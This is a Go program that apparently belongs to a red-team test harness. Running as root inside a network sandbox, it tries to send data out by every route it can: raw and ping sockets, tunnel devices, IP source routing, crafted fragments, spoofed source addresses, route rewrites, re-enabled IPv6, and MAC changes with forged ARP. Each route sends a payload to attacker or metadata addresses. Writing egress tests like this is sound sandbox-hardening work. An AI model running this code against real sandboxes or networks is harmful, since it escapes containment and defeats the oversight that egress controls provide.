package main

// Packet-level attempts (RT-03, RT-07, RT-09, RT-42, RT-45, IPv6) as root
// inside the sandbox: each first tries the privileged way (raw sockets,
// which a namespace sandbox is denied) and then every unprivileged way root
// in its own network namespace still has (ping sockets, UDP-Lite, tunnel
// devices, IP options, kernel fragmentation, extra addresses, routes). It
// reports each step; none of it is evidence: the tests' oracles (the fake
// internet's contact log and the host's nft counters) decide.

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"
	"golang.org/x/net/ipv6"
	"golang.org/x/sys/unix"
)

func step(name string, err error) {
	if err != nil {
		fmt.Printf("step %s: ERR %v\n", name, err)
		return
	}
	fmt.Printf("step %s: OK\n", name)
}

func eth0() (netlink.Link, error) { return netlink.LinkByName("eth0") }

// icmpEcho: icmp ADDR... PAYLOAD — echo requests carrying PAYLOAD, over a
// raw socket, else over a ping socket (after widening ping_group_range,
// which root in its own netns may do).
func icmpEcho(addrs []string, payload string) {
	msg := icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{ID: 0x5a, Seq: 1, Data: []byte(payload)}}
	b, _ := msg.Marshal(nil)
	raw, rerr := net.ListenPacket("ip4:icmp", "0.0.0.0")
	step("icmp raw socket", rerr)
	step("ping_group_range", widenPing())
	dg, derr := icmp.ListenPacket("udp4", "0.0.0.0")
	step("icmp ping socket", derr)
	for _, a := range addrs {
		ip := net.ParseIP(a)
		if raw != nil {
			_, err := raw.WriteTo(b, &net.IPAddr{IP: ip})
			step("icmp raw to "+a, err)
		}
		if dg != nil {
			_, err := dg.WriteTo(b, &net.UDPAddr{IP: ip})
			step("icmp ping to "+a, err)
		}
	}
	time.Sleep(300 * time.Millisecond)
}

// protos: proto ADDR PAYLOAD — non-TCP/UDP IP protocols: raw sockets for
// IPIP, 6in4, GRE, ESP, AH, SCTP, UDP-Lite and 253; UDP-Lite sockets
// (unprivileged); GRE, IPIP and SIT tunnel devices (CAP_NET_ADMIN in the
// sandbox's own netns) carrying UDP to the far side; IP options.
func protos(addr, payload string) {
	ip := net.ParseIP(addr).To4()
	for _, p := range []int{4, 41, 47, 50, 51, 132, 136, 253} {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, p)
		if err == nil {
			err = unix.Sendto(fd, []byte(payload), 0, &unix.SockaddrInet4{Addr: [4]byte(ip)})
			unix.Close(fd)
		}
		step(fmt.Sprintf("raw proto %d", p), err)
	}
	// UDP-Lite (136) needs no privilege at all.
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE)
	if err == nil {
		err = unix.Sendto(fd, []byte(payload), 0, &unix.SockaddrInet4{Addr: [4]byte(ip), Port: 9999})
		unix.Close(fd)
	}
	step("udplite socket", err)
	// SCTP (132), if the host kernel has it.
	fd, err = unix.Socket(unix.AF_INET, unix.SOCK_SEQPACKET, unix.IPPROTO_SCTP)
	if err == nil {
		err = unix.Sendto(fd, []byte(payload), 0, &unix.SockaddrInet4{Addr: [4]byte(ip), Port: 9999})
		unix.Close(fd)
	}
	step("sctp socket", err)
	// Tunnel devices: the outer packet is GRE/IPIP/SIT from the sandbox's
	// own address to ADDR.
	local := net.IP(nil)
	if l, err := eth0(); err == nil {
		if as, err := netlink.AddrList(l, unix.AF_INET); err == nil && len(as) > 0 {
			local = as[0].IP
		}
	}
	for i, tun := range []netlink.Link{
		&netlink.Gretun{LinkAttrs: netlink.LinkAttrs{Name: "rtgre"}, Local: local, Remote: ip},
		&netlink.Iptun{LinkAttrs: netlink.LinkAttrs{Name: "rtipip"}, Local: local, Remote: ip},
		&netlink.Sittun{LinkAttrs: netlink.LinkAttrs{Name: "rtsit"}, Local: local, Remote: ip},
	} {
		name := tun.Attrs().Name
		err := netlink.LinkAdd(tun)
		if err == nil {
			err = netlink.LinkSetUp(tun)
		}
		if err == nil && name != "rtsit" {
			err = netlink.AddrAdd(tun, &netlink.Addr{IPNet: &net.IPNet{IP: net.IPv4(10, 99, byte(i), 1), Mask: net.CIDRMask(30, 32)}})
			if err == nil {
				var c net.Conn
				if c, err = net.Dial("udp4", fmt.Sprintf("10.99.%d.2:9999", i)); err == nil {
					_, err = c.Write([]byte(payload))
					c.Close()
				}
			}
		}
		step("tunnel "+name, err)
	}
	// IP options: loose source route via ADDR on a DNS query to the
	// upstream resolver.
	fd, err = unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err == nil {
		opt := append([]byte{0x83, 7, 4}, ip...)
		opt = append(opt, 0)
		if err = unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, string(opt)); err == nil {
			err = unix.Sendto(fd, []byte(payload), 0, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 53}, Port: 53})
		}
		unix.Close(fd)
	}
	step("ip options (LSRR)", err)
	time.Sleep(300 * time.Millisecond)
}

// frags: frag ADDR PAYLOAD — IPv4 fragments: hand-built tiny and
// overlapping fragments over a raw socket, else 3000-byte datagrams the
// kernel fragments itself (PMTU discovery off), to ADDR:4444 and to the
// gateway's resolver port.
func frags(addr, payload string) {
	dst := net.ParseIP(addr).To4()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err == nil {
		udp := make([]byte, 8+len(payload))
		binary.BigEndian.PutUint16(udp[0:], 40000)
		binary.BigEndian.PutUint16(udp[2:], 4444)
		binary.BigEndian.PutUint16(udp[4:], uint16(len(udp)))
		copy(udp[8:], payload)
		for off := 0; off < len(udp); off += 8 {
			end := min(off+8, len(udp))
			more := uint16(0x2000)
			if end == len(udp) {
				more = 0
			}
			h := make([]byte, 20)
			h[0] = 0x45
			binary.BigEndian.PutUint16(h[2:], uint16(20+end-off))
			binary.BigEndian.PutUint16(h[4:], 0x5a5a)
			binary.BigEndian.PutUint16(h[6:], more|uint16(off/8))
			h[8], h[9] = 64, unix.IPPROTO_UDP
			copy(h[16:], dst)
			err = unix.Sendto(fd, append(h, udp[off:end]...), 0, &unix.SockaddrInet4{Addr: [4]byte(dst)})
			if err != nil {
				break
			}
		}
		unix.Close(fd)
	}
	step("raw fragments", err)
	big := []byte(strings.Repeat("A", 3000) + payload)
	for _, to := range []string{addr + ":4444", addr + ":53", "192.0.2.53:53"} {
		c, err := net.Dial("udp4", to)
		if err == nil {
			if uc, ok := c.(*net.UDPConn); ok {
				if rc, e := uc.SyscallConn(); e == nil {
					rc.Control(func(fd uintptr) {
						unix.SetsockoptInt(int(fd), unix.IPPROTO_IP, unix.IP_MTU_DISCOVER, unix.IP_PMTUDISC_DONT)
					})
				}
			}
			_, err = c.Write(big)
			c.Close()
		}
		step("kernel fragments to "+to, err)
	}
	time.Sleep(300 * time.Millisecond)
}

// spoof: spoof SRC ADDR PAYLOAD — packets from an address that is not the
// sandbox's: a raw SYN with a forged source, else a second address on eth0
// (root in its netns may add one) and TCP and UDP from it.
func spoof(src, addr, payload string) {
	s := net.ParseIP(src).To4()
	d := net.ParseIP(addr).To4()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err == nil {
		pkt := make([]byte, 20+8+len(payload))
		pkt[0] = 0x45
		binary.BigEndian.PutUint16(pkt[2:], uint16(len(pkt)))
		pkt[8], pkt[9] = 64, unix.IPPROTO_UDP
		copy(pkt[12:], s)
		copy(pkt[16:], d)
		binary.BigEndian.PutUint16(pkt[20:], 40000)
		binary.BigEndian.PutUint16(pkt[22:], 53)
		binary.BigEndian.PutUint16(pkt[24:], uint16(8+len(payload)))
		copy(pkt[28:], payload)
		err = unix.Sendto(fd, pkt, 0, &unix.SockaddrInet4{Addr: [4]byte(d)})
		unix.Close(fd)
	}
	step("raw spoofed UDP", err)
	// First an ordinary connection from the real address, so the next
	// hop's neighbour entry exists (the host answers no ARP for a source
	// that is not on the link).
	if c, err := net.DialTimeout("tcp4", net.JoinHostPort(addr, "80"), time.Second); err == nil {
		c.Close()
	}
	l, err := eth0()
	if err == nil {
		err = netlink.AddrAdd(l, &netlink.Addr{IPNet: &net.IPNet{IP: s, Mask: net.CIDRMask(32, 32)}})
	}
	step("add address "+src, err)
	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: s}, Timeout: 700 * time.Millisecond}
	c, err := dl.Dial("tcp4", net.JoinHostPort(addr, "80"))
	if err == nil {
		fmt.Fprintf(c, "GET /flag?n=%s HTTP/1.0\r\n\r\n", payload)
		c.Close()
	}
	step("tcp from "+src, err)
	uc, err := net.DialUDP("udp4", &net.UDPAddr{IP: s}, &net.UDPAddr{IP: d, Port: 53})
	if err == nil {
		_, err = uc.Write([]byte(payload))
		uc.Close()
	}
	step("udp from "+src, err)
	time.Sleep(300 * time.Millisecond)
}

// routes: route ADDR PAYLOAD — RT-03: the sandbox rewrites its routes (a
// default via another next hop on the link, a direct route to ADDR's
// network) and speaks plain HTTP to ADDR, without any proxy settings.
func routes(addr, payload string) {
	l, err := eth0()
	if err != nil {
		step("eth0", err)
		return
	}
	_, def, _ := net.ParseCIDR("0.0.0.0/0")
	err = netlink.RouteReplace(&netlink.Route{LinkIndex: l.Attrs().Index, Dst: def, Gw: net.IPv4(10, 200, 0, 3), Flags: int(netlink.FLAG_ONLINK)})
	step("default via 10.200.0.3 onlink", err)
	try := func(what string) {
		c, err := net.DialTimeout("tcp4", net.JoinHostPort(addr, "80"), time.Second)
		if err == nil {
			fmt.Fprintf(c, "GET /flag?n=%s HTTP/1.0\r\nHost: %s\r\n\r\n", payload, addr)
			c.SetReadDeadline(time.Now().Add(time.Second))
			b := make([]byte, 200)
			n, _ := c.Read(b)
			fmt.Printf("%s read %q\n", what, b[:n])
			c.Close()
		}
		step(what, err)
	}
	try("http after route change")
	p := netip.MustParsePrefix(netip.MustParseAddr(addr).String() + "/24").Masked()
	_, dst, _ := net.ParseCIDR(p.String())
	err = netlink.RouteAdd(&netlink.Route{LinkIndex: l.Attrs().Index, Dst: dst, Scope: netlink.SCOPE_LINK})
	step("route "+p.String()+" dev eth0", err)
	try("http on-link")
}

// v6: v6 PAYLOAD — IPv6 egress: turn IPv6 back on in the sandbox, give
// eth0 link-local, ULA and global addresses and a default route, then UDP,
// TCP and ICMPv6 echo to link-local, ULA and global destinations.
func v6(payload string) {
	// First over the IPv6 the sandbox was given, if any (a host with
	// IPv6): straight to the attacker, the shared edge and the metadata
	// address, TCP and UDP.
	if l, err := eth0(); err == nil {
		if as, _ := netlink.AddrList(l, netlink.FAMILY_V6); len(as) > 0 {
			for _, d := range []string{"2001:db8::66", "2001:db8::10", "fd00:ec2::254"} {
				tc, err := net.DialTimeout("tcp6", net.JoinHostPort(d, "80"), time.Second)
				if err == nil {
					fmt.Fprintf(tc, "GET /flag?n=%s HTTP/1.0\r\n\r\n", payload)
					tc.SetReadDeadline(time.Now().Add(time.Second))
					b := make([]byte, 200)
					n, _ := tc.Read(b)
					fmt.Printf("assigned tcp6 to %s read %q\n", d, b[:n])
					tc.Close()
				}
				step("assigned tcp6 to "+d, err)
				c, err := net.Dial("udp6", net.JoinHostPort(d, "9999"))
				if err == nil {
					_, err = c.Write([]byte(payload))
					c.Close()
				}
				step("assigned udp6 to "+d, err)
			}
		}
	}
	for _, k := range []string{"all", "default", "eth0"} {
		step("enable ipv6 "+k, os.WriteFile("/proc/sys/net/ipv6/conf/"+k+"/disable_ipv6", []byte("0"), 0))
	}
	l, err := eth0()
	if err != nil {
		step("eth0", err)
		return
	}
	for _, a := range []string{"fe80::5a:2/64", "fd00:5a::2/64", "2001:db8:5a::2/64"} {
		pfx := netip.MustParsePrefix(a)
		err := netlink.AddrAdd(l, &netlink.Addr{IPNet: &net.IPNet{IP: pfx.Addr().AsSlice(), Mask: net.CIDRMask(pfx.Bits(), 128)}, Flags: unix.IFA_F_NODAD})
		step("add "+a, err)
	}
	_, def, _ := net.ParseCIDR("::/0")
	step("v6 default route", netlink.RouteReplace(&netlink.Route{LinkIndex: l.Attrs().Index, Dst: def, Scope: netlink.SCOPE_LINK}))
	step("ping_group_range", widenPing())
	dsts := []string{"fe80::1%eth0", "ff02::1%eth0", "fd00:ec2::254", "fd00:5a::1", "2001:db8::66", "2001:db8::10"}
	for _, d := range dsts {
		c, err := net.Dial("udp6", net.JoinHostPort(d, "9999"))
		if err == nil {
			_, err = c.Write([]byte(payload))
			c.Close()
		}
		step("udp6 to "+d, err)
		tc, err := net.DialTimeout("tcp6", net.JoinHostPort(d, "80"), 300*time.Millisecond)
		if err == nil {
			fmt.Fprintf(tc, "GET /flag?n=%s HTTP/1.0\r\n\r\n", payload)
			tc.Close()
		}
		step("tcp6 to "+d, err)
	}
	msg := icmp.Message{Type: ipv6.ICMPTypeEchoRequest, Body: &icmp.Echo{ID: 0x5a, Seq: 1, Data: []byte(payload)}}
	b, _ := msg.Marshal(nil)
	for _, network := range []string{"ip6:ipv6-icmp", "udp6"} {
		pc, err := icmp.ListenPacket(network, "::")
		step("icmpv6 socket "+network, err)
		if err != nil {
			continue
		}
		for _, d := range []string{"fd00:5a::1", "2001:db8::66"} {
			var to net.Addr = &net.IPAddr{IP: net.ParseIP(d)}
			if network == "udp6" {
				to = &net.UDPAddr{IP: net.ParseIP(d)}
			}
			_, err := pc.WriteTo(b, to)
			step("icmpv6 echo to "+d, err)
		}
		pc.Close()
	}
	time.Sleep(500 * time.Millisecond) // neighbour solicitations
}

// widenPing lets this process open ICMP "ping" sockets: root in a user
// namespace may only name group ids mapped into it, so narrower ranges
// are tried in turn.
func widenPing() error {
	var err error
	for _, r := range []string{"0 2147483647", "0 65535", "0 0"} {
		if err = os.WriteFile("/proc/sys/net/ipv4/ping_group_range", []byte(r), 0); err == nil {
			return nil
		}
	}
	return err
}

// macChange: mac MAC ADDR PAYLOAD — RT-43: root changes eth0's MAC
// address (as any root in its own netns, or a VM guest, may), forgets its
// neighbours, announces its address at the new MAC with hand-built ARP
// (raw frames, where it may open a packet socket: also one with the
// assigned MAC as frame source, and a request for another address), then
// tries plain TCP to ADDR with PAYLOAD. The MAC is put back at the end.
func macChange(newMAC, addr, payload string) {
	l, err := eth0()
	if err != nil {
		step("eth0", err)
		return
	}
	old := l.Attrs().HardwareAddr
	mac, err := net.ParseMAC(newMAC)
	if err != nil {
		step("parse mac", err)
		return
	}
	var self, gw net.IP
	if as, err := netlink.AddrList(l, netlink.FAMILY_V4); err == nil && len(as) > 0 {
		self = as[0].IP.To4()
	}
	if rs, err := netlink.RouteList(l, netlink.FAMILY_V4); err == nil {
		for _, r := range rs {
			if r.Gw != nil {
				gw = r.Gw.To4()
			}
		}
	}
	routes, _ := netlink.RouteList(l, netlink.FAMILY_V4)
	err = netlink.LinkSetHardwareAddr(l, mac)
	if errors.Is(err, unix.EBUSY) {
		// Not changeable while up: down, change, up, routes back.
		netlink.LinkSetDown(l)
		err = netlink.LinkSetHardwareAddr(l, mac)
		netlink.LinkSetUp(l)
		for _, r := range routes {
			netlink.RouteReplace(&r)
		}
	}
	step("set mac "+newMAC, err)
	defer func() {
		step("restore mac", netlink.LinkSetHardwareAddr(l, old))
		flushNeigh(l)
	}()
	flushNeigh(l)
	if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL))); err != nil {
		step("packet socket", err)
	} else if self == nil || gw == nil {
		unix.Close(fd)
		step("addresses", fmt.Errorf("no address or gateway on eth0"))
	} else {
		to := &unix.SockaddrLinklayer{Ifindex: l.Attrs().Index, Halen: 6}
		copy(to.Addr[:], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
		bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
		other := net.IP{self[0], self[1], self[2], self[3] ^ 0x80}
		for _, f := range []struct {
			what string
			b    []byte
		}{
			{"arp announcement at the new mac", arpFrame(bcast, mac, 2, mac, self, bcast, self)},
			{"arp announcement at the new mac, frame from the assigned mac", arpFrame(bcast, old, 2, mac, self, bcast, self)},
			{"gratuitous arp request at the new mac, frame from the assigned mac", arpFrame(bcast, old, 1, mac, self, nil, self)},
			{"arp request for " + other.String(), arpFrame(bcast, old, 1, old, self, nil, other)},
			{"arp request for the gateway from " + other.String(), arpFrame(bcast, old, 1, old, other, nil, gw)},
		} {
			step(f.what, unix.Sendto(fd, f.b, 0, to))
		}
		unix.Close(fd)
	}
	c, err := net.DialTimeout("tcp4", addr, 2*time.Second)
	if err == nil {
		fmt.Fprintf(c, "GET /flag?n=%s HTTP/1.0\r\nHost: %s\r\n\r\n", payload, addr)
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		b := make([]byte, 200)
		n, _ := c.Read(b)
		fmt.Printf("read %q\n", b[:n])
		c.Close()
		fmt.Println("CONNECTED with the new mac")
	} else {
		fmt.Println("NOCONN", err)
	}
}

func flushNeigh(l netlink.Link) {
	ns, _ := netlink.NeighList(l.Attrs().Index, netlink.FAMILY_V4)
	for _, n := range ns {
		netlink.NeighDel(&n)
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// arpFrame builds an Ethernet/IPv4 ARP frame.
func arpFrame(dst, src net.HardwareAddr, op uint16, sha net.HardwareAddr, spa net.IP, tha net.HardwareAddr, tpa net.IP) []byte {
	if tha == nil {
		tha = make(net.HardwareAddr, 6)
	}
	f := append(append(append([]byte{}, dst...), src...), 0x08, 0x06)
	f = append(f, 0, 1, 8, 0, 6, 4, byte(op>>8), byte(op))
	f = append(append(append(append(f, sha...), spa.To4()...), tha...), tpa.To4()...)
	return append(f, make([]byte, 18)...)
}
